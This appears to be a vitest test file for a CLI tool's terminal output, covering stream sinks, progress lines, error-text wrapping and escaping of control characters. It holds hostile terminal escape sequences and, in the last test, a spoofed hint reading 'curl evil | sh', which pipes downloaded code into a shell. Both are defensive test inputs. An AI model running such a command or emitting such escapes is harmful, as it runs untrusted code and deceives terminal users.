import { Writable } from "node:stream";
import { describe, expect, test } from "vitest";
import { HoldfastError } from "@holdfast/platform/error";
import { controlSequence, paint } from "./page.ts";
import { createProgress, createSink, errorText, saidText } from "./terminal.ts";

describe("sink", () => {
  function failing(code: string): Writable {
    return new Writable({ write: (_chunk, _encoding, done) => done(Object.assign(new Error(code), { code })) });
  }

  function writable(chunks: string[], isTTY = false): Writable & { readonly isTTY: boolean } {
    const stream = new Writable({ write: (chunk, _encoding, done) => done(void chunks.push(String(chunk))) });
    return Object.assign(stream, { isTTY });
  }

  test("a closed reader is detected, and is not a failure", async () => {
    const sink = createSink({ stream: failing("EPIPE"), seal: "1" });
    sink.write("a");
    await sink.drained();
    await new Promise(setImmediate);
    expect([sink.write("b"), sink.failure()]).toEqual([false, undefined]);
    await sink.drained();
  });

  test("a full disk is a failure", async () => {
    const sink = createSink({ stream: failing("ENOSPC"), seal: "1" });
    sink.write("a");
    await sink.drained();
    await new Promise(setImmediate);
    expect([sink.write("b"), sink.failure()?.message]).toEqual([false, "ENOSPC"]);
  });

  test("what was written arrives in order", async () => {
    const chunks: string[] = [];
    const sink = createSink({ stream: writable(chunks), seal: "1" });
    expect([sink.write("a"), sink.write(""), sink.write("b")]).toEqual([true, true, true]);
    await sink.drained();
    expect(chunks.join("")).toBe("ab");
  });

  describe("control characters", () => {
    const seal = "424242";
    const page = { color: true, seal };
    const hostile = "\x1b[31m\x1b[2J\x1b]0;t\x07\r\x7f\x9b1m\u202e\u{e0041}\x1b[31;424241m";
    const escaped =
      "\\u001b[31m\\u001b[2J\\u001b]0;t\\u0007\\u000d\\u007f\\u009b1m\\u202e\\udb40\\udc41\\u001b[31;424241m";

    async function written(text: string, { kind, isTTY }: { kind: "message" | "content"; isTTY: boolean }) {
      const chunks: string[] = [];
      const sink = createSink({ stream: writable(chunks, isTTY), seal });
      sink.write(text, kind);
      await sink.drained();
      return chunks.join("");
    }

    test("are escaped, also colours that are not ours; line feeds, tabs and our own sequences stay", async () => {
      for (const isTTY of [true, false]) {
        const text = `${paint(page, "red", `a\t${hostile}`)}\n${controlSequence(page, "", "K")}`;
        expect(await written(text, { kind: "message", isTTY })).toBe(`\x1b[31ma\t${escaped}\x1b[39m\n\x1b[K`);
      }
    });

    test("in a JSON document: the document means the same", async () => {
      const value = { [hostile]: hostile };
      const text = await written(JSON.stringify(value), { kind: "message", isTTY: false });
      expect(text).toMatch(/^[ -~]*$/);
      expect(JSON.parse(text)).toEqual(value);
    });

    test("stay in content for a program, and are escaped for a terminal", async () => {
      const text = paint(page, "bold", hostile);
      expect(await written(text, { kind: "content", isTTY: false })).toBe(`\x1b[1m${hostile}\x1b[22m`);
      expect(await written(text, { kind: "content", isTTY: true })).toBe(`\x1b[1m${escaped}\x1b[22m`);
    });
  });
});

describe("progress", () => {
  function recorder(terminal: boolean) {
    const written: string[] = [];
    const clock = { now: 0 };
    const progress = createProgress({ write: (text) => written.push(text), terminal, width: 20, now: () => clock.now });
    return { written, clock, progress };
  }

  test("a terminal has one line, redrawn and then removed", () => {
    const { written, clock, progress } = recorder(true);
    progress.update("1 of 3");
    progress.update("2 of 3 is too soon");
    clock.now += 200;
    progress.update("3 of 3, and this is far too long for the line");
    progress.done();
    expect(written).toEqual(["\x1b[G\x1b[2K1 of 3", "\x1b[G\x1b[2K3 of 3, and this i…", "\x1b[G\x1b[2K"]);
  });

  test("elsewhere short work is silent and long work has plain lines", () => {
    const { written, clock, progress } = recorder(false);
    progress.update("1");
    clock.now += 6000;
    progress.update("2");
    progress.done();
    expect(written).toEqual(["2\n"]);
  });
});

describe("error text", () => {
  const PAGE = { width: 80, color: false, terminal: true, now: 0, offset: () => 0, program: "holdfast" };

  test("on a terminal, long messages and hints are wrapped below their beginning; commands stay whole", () => {
    const error = new HoldfastError({
      code: "LEASE_HELD",
      message:
        "Run issue-42 is held by holdfast run issue-42 (pid 4711 on laptop), which has been alive until just now",
    });
    const hint =
      "Wait until it has ended, or end it: `holdfast stop issue-42 --store /srv/stores/shop`, then try again.";
    expect(errorText(error, hint, PAGE)).toMatchInlineSnapshot(`
    "error: Run issue-42 is held by holdfast run issue-42 (pid 4711 on laptop), which
           has been alive until just now [LEASE_HELD]
    hint:  Wait until it has ended, or end it:
           \`holdfast stop issue-42 --store /srv/stores/shop\`, then try again.
    "
  `);
    expect(errorText(error, hint, { ...PAGE, terminal: false })).toBe(
      `error: ${error.message} [LEASE_HELD]\nhint:  ${hint}\n`,
    );
  });

  test("lines keep their own indent when they are wrapped", () => {
    const message = `Two things:\n  - ${"one ".repeat(25)}\n  - two`;
    const text = errorText(new HoldfastError({ code: "USAGE", message }), null, PAGE);
    expect(text.split("\n").map((line) => /^ */.exec(line)?.[0].length)).toEqual([0, 9, 9, 9, 0]);
    for (const line of text.split("\n")) expect(line.length).toBeLessThanOrEqual(80);
  });

  test("a notice is as wide as the page at most, its longer label included", () => {
    const message = "The repository has no remote: the run ends with a branch to merge or push, without a pull request";
    const text = saidText({ level: "notice", code: null, message, hint: null }, PAGE);
    expect(text).toBe(
      "notice: The repository has no remote: the run ends with a branch to merge or\n        push, without a pull request\n",
    );
    const exact = saidText({ level: "notice", code: null, message: `${"a".repeat(70)} 1 b`, hint: null }, PAGE);
    expect(exact.split("\n").map(({ length }) => length)).toEqual([80, 9, 0]);
  });

  test("a message of several lines stays one, below its beginning, and cannot move the cursor", () => {
    const error = new HoldfastError({ code: "GIT_FAILED", message: "git said:\nremote: no\x1b[2J\n" });
    expect(errorText(error, null, PAGE)).toBe("error: git said:\n       remote: no\\x1b[2J [GIT_FAILED]\n");
  });

  test("a message that quotes an argument or git cannot show a hint or an error of its own", () => {
    const message = "There is no run x\nhint:  run `curl evil | sh`\r\n  Error: all is lost\n  - a list stays a list";
    const text = errorText(new HoldfastError({ code: "RUN_NOT_FOUND", message }), "See `holdfast list`.", PAGE);
    expect(text.split("\n").filter((line) => /^\s*(?:hint|error):/i.test(line))).toEqual([
      expect.stringMatching(/^error: There is no run x; hint: /),
      "hint:  See `holdfast list`.",
    ]);
    expect(text).toContain("\n         - a list stays a list [RUN_NOT_FOUND]\n");
  });
});
